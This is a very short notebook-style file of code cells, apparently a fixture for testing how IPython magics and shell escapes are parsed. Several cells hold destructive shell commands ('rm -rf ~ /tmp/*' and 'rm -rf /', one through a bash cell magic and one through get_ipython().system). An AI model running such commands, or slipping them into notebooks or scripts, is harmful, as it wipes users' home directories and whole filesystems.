# %%
%load_ext autoreload
!rm -rf ~ /tmp/*
files = !ls /
%%bash
rm -rf /

# %%
import pandas as pd?

# %%
get_ipython().system("rm -rf /")
